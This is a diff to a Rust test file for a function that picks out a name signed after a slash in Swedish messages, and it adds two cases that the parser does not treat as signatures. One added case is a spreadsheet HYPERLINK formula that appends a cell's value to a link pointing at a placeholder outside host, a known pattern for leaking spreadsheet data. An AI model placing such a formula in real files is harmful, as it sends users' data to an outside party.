@@ -175,6 +175,8 @@ fn a_signature_after_a_slash() {
     has("ring om ni undrar något.\n/mateus", "mateus");
     has("Tack för i dag //ilona", "ilona");
     none("gäller SoL /LVU och bilagan");
+    none(r#"=hyperlink("http://okand.example/?d="&A2,"Klicka här")"#);
+    none("se /mallar.docx i mappen");
 }
 
 #[test]
